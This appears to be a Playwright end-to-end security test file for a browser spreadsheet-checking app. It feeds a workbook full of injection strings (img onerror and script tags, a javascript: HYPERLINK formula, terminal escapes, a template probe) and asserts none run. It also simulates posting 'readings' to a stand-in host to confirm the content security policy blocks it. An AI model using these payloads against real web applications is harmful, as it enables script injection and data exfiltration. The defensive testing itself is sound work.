import type { Frame } from "playwright-core";
import { atStand } from "../bench/stand.ts";
import { toView } from "../helpers/to-view.ts";
import { type BookXml, workbookBytes } from "../xlsx/workbook-bytes.ts";

import.meta.jest.setTimeout(240_000);

/**
 * A workbook whose every text tries to be more than text, through the whole of a session on the bench:
 * opened, looked over, marked, planned, drawn, reported, saved. Names are spelled as a file allows.
 */
const HTML = '<img src=x onerror="window.pwned=1">';
const TEXTS = [
  HTML,
  "<script>window.pwned=1</script>",
  '=HYPERLINK("javascript:window.pwned=1","x")',
  "javascript:window.pwned=1",
  "_x001B_[2J_x001B_]0;x_x0007_",
  "{{7*7}}",
  "https://elsewhere.example/readings",
  "[73.02](https://elsewhere.example/readings)",
];
const SHEET = "<b>x";

const BOOK: BookXml = {
  names: `<definedName name="evil">"${HTML.replaceAll("<", "&lt;").replaceAll('"', "'")}"</definedName>`,
  sheets: [
    {
      name: SHEET,
      cells: [
        ["cylinder", HTML, "value", "lower", "upper", "characteristic"],
        ...TEXTS.map((text, i) => [text, text, 73.09, 73, i === 0 ? 73.05 : 73.06, text]),
        [HTML, null, HTML, 73, 73.05, HTML],
      ],
    },
    { name: "=1+1", cells: [[{ f: `HATCH.VERDICT('${SHEET}'!C2,,'${SHEET}'!B2)` }, { f: '"<svg onload=window.pwned=1>"&A1' }]] },
  ],
};
const FILE = "<img src=x onerror=window.pwned=1>.xlsx";

const at = atStand("one page");
const pane = () => at.page.pane;
const tab = (name: string) => toView(pane(), name);

/** Whatever in either page came from the texts as anything but text. */
async function intruders(): Promise<string[]> {
  const found: string[] = [];
  for (const frame of at.page.page.frames()) {
    found.push(
      ...(await frame.evaluate(() => {
        const odd = [
          ...document.querySelectorAll(
            "img[onerror], img[src='x'], svg[onload], b, script:not([src]), iframe:not(#pane), a[href^='javascript:' i], a[href^='http' i]",
          ),
        ];
        return [...odd.map((element) => element.outerHTML.slice(0, 200)), ...("pwned" in window ? ["a script ran"] : [])];
      })),
    );
  }
  return found;
}

test("the workbook comes in, and its names are shown as they are written", async () => {
  await at.page.give(FILE, workbookBytes(BOOK));
  await at.page.page.waitForFunction((name) => document.querySelector("#book")?.textContent === name, FILE);
  expect((await at.page.sheets()).map(({ name }) => name)).toEqual([SHEET, "=1+1"]);
  expect(await intruders()).toEqual([]);
});

test("findings say what the cells say, letter for letter", async () => {
  await pane().getByRole("button", { name: "Check", exact: true }).click();
  await pane().locator(".counts").waitFor();
  const text = (await pane().locator("#view-check").textContent())!;
  expect(text).toContain(HTML);
  expect(text).toContain("<script>window.pwned=1</script>");
  await pane().locator(".finding button").first().click();
  await pane().getByRole("button", { name: "Mark cells" }).click();
  await pane().getByText("cells marked.").first().waitFor();
  expect(await intruders()).toEqual([]);
});

test("questions and refusals say what files are called, letter for letter", async () => {
  const { page } = at.page;
  const other = FILE.replace("src=x", "src=x id=other");
  await at.page.give(other, workbookBytes(BOOK));
  const question = page.locator("dialog[open]");
  expect(await question.textContent()).toContain(`${FILE} has changes that are not saved. What is to happen before ${other} is opened?`);
  await question.getByRole("button", { name: "Keep working here" }).click();
  await at.page.give(other, Buffer.from(HTML));
  await page.getByText(`${other} is a text file`).waitFor();
  expect(await intruders()).toEqual([]);
});

test("a plan from such cells is refused or shown in their own words", async () => {
  await tab("Plan");
  await pane().getByRole("combobox", { name: "Plan", exact: true }).selectOption("Piston matching");
  await pane().getByLabel("Piston skirts", { exact: true }).fill(HTML);
  await pane().getByLabel("Clearance wanted", { exact: true }).fill("0.03");
  await pane().getByRole("button", { name: "Work it out" }).click();
  await pane().locator("table.plan, .trouble, [role=alert]:not(:empty), [aria-invalid=true]").first().waitFor();
  expect(await intruders()).toEqual([]);
});

test("the report is a page without anything that runs, and the saved workbook holds the same texts", async () => {
  await tab("Report");
  await pane().getByRole("button", { name: "Make the report" }).click();
  const [download] = await Promise.all([at.page.page.waitForEvent("download"), pane().getByRole("link", { name: "Save Report" }).click()]);
  expect(download.suggestedFilename()).not.toMatch(/[<>"/\\:|?*]/);
  const pieces: Buffer[] = [];
  for await (const piece of await download.createReadStream()) pieces.push(piece as Buffer);
  const html = Buffer.concat(pieces).toString();
  expect(html).toContain("&lt;img src=x");
  const report = await at.page.page.context().newPage();
  await report.setContent(html);
  expect(await report.locator("a:not([href^='#']), [src], [background], form, link, meta[http-equiv=refresh]").count()).toBe(0);
  const active = await report.evaluate(() => {
    const elements = [...document.querySelectorAll("*")];
    const running = elements.filter(({ attributes }) => [...attributes].some(({ name, value }) => /^on/i.test(name) || /^\s*javascript:/i.test(value)));
    return [...document.querySelectorAll("img, script, iframe, object"), ...running].map(({ outerHTML }) => outerHTML.slice(0, 200));
  });
  expect([active, await report.evaluate(() => "pwned" in window)]).toEqual([[], false]);
  await report.close();
  const { bytes } = await at.page.saved();
  expect(Buffer.from(bytes.subarray(0, 2)).toString()).toBe("PK");
});

test("in all that, nothing was asked for elsewhere and no rule of either page was broken", async () => {
  expect(await intruders()).toEqual([]);
  expect(at.page.trouble).toEqual([]);
});

/** What a page does with a script, an address elsewhere or code in text, were it ever to get one in. */
async function attempt(frame: Frame, how: "inline" | "elsewhere" | "fetch" | "eval"): Promise<string> {
  return await frame.evaluate(
    (kind) =>
      new Promise<string>((resolve) => {
        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => resolve(`refused by ${effectiveDirective}`), { once: true });
        const script = document.createElement("script");
        const attempts = {
          inline: () => {
            script.textContent = "window.ran = true";
            document.body.append(script);
          },
          elsewhere: () => {
            script.src = "https://elsewhere.example/x.js";
            document.body.append(script);
          },
          fetch: () => void fetch("https://elsewhere.example/", { method: "POST", body: "readings" }).catch(() => {}),
          eval: () => {
            try {
              new Function("window.ran = true")();
            } catch {}
          },
        };
        // What the tests' own connection runs may become code; what the page itself runs later is under its policy.
        setTimeout(attempts[kind]);
        setTimeout(() => resolve("ran" in window ? "it ran" : "nothing happened"), 1500);
      }),
    how,
  );
}

describe("the pages' own policies hold in the browser", () => {
  const frames = () => {
    const all = at.page.page.frames();
    return { bench: all[0]!, pane: all.find((frame) => frame.url().endsWith("/pane.html"))! };
  };

  test.each([
    ["inline", "refused by script-src-elem"],
    ["elsewhere", "refused by script-src-elem"],
    ["fetch", "refused by connect-src"],
  ] as const)("%s: %s, on the bench and in the pane", async (how, what) => {
    expect([await attempt(frames().bench, how), await attempt(frames().pane, how)]).toEqual([what, what]);
  });

  test("text becomes code on the bench, whose engine needs it, and not in the pane", async () => {
    expect([await attempt(frames().bench, "eval"), await attempt(frames().pane, "eval")]).toEqual(["it ran", "refused by script-src"]);
  });

  test("no other page can hold the bench, and the answers say so", async () => {
    const answer = await at.page.page.request.get(at.page.url);
    expect(answer.headers()["content-security-policy"]).toMatch(/^default-src 'none';.*frame-ancestors 'none'$/);
    const holder = await at.page.page.context().newPage();
    await holder.setContent(`<iframe src="${at.page.url}"></iframe>`);
    const inside = holder.frames()[1]!;
    await inside.waitForLoadState().catch(() => {});
    expect(await inside.evaluate(() => document.querySelector("#pane") === null).catch(() => true)).toBe(true);
    await holder.close();
  });

  // The browser takes a page whose form was refused away, so this comes last.
  test("a form that would send something elsewhere is refused before anything is sent", async () => {
    const before = at.page.trouble.length;
    await frames().pane.evaluate(() => {
      const form = document.createElement("form");
      form.action = "https://elsewhere.example/";
      form.method = "post";
      document.body.append(form);
      setTimeout(() => form.submit());
    });
    await at.page.page.waitForTimeout(2000);
    const trouble = at.page.trouble.slice(before).join("\n");
    expect(trouble).toContain("form-action");
    expect(trouble).not.toContain("asked https://elsewhere.example");
  });
});
